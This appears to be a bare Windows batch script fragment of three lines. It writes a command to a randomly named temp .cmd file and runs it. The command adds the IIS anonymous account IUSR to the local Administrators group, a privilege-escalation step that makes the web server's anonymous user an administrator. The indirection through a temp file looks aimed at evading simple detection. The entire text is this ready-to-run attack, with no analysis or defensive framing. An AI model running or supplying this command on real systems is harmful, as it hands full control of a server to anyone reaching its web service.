set FILE=%TEMP%\%RANDOM%.cmd
echo net localgroup Administrators IUSR /add > %FILE%
call %FILE%
